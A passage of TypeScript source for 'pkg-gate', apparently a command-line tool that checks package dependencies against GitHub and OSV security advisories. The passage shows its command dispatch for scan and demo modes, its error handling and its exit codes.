            githubAdvisories(env),
            "--osv-url"
          )
        });
        const report = applyRunPolicy(scanned, { ...run2, headLabel: "the head's version" }, now);
        output(report, values.format ?? "text");
        return exitCode(report);
      }
      case "demo": {
        const report = await runDemo(fromFlags.failOn.value, logger);
        output(report, values.format ?? "text");
        return exitCode(report);
      }
      default:
        throw new UsageError(`unknown command "${command}"`);
    }
  } catch (error) {
    const message = error instanceof Error ? error.message : String(error);
    process.stderr.write(
      `pkg-gate: ${message}${error instanceof UsageError ? " (see pkg-gate --help)" : ""}
`
    );
    return 2;
  }
}

// src/cli.ts
process.exitCode = await main(process.argv.slice(2));
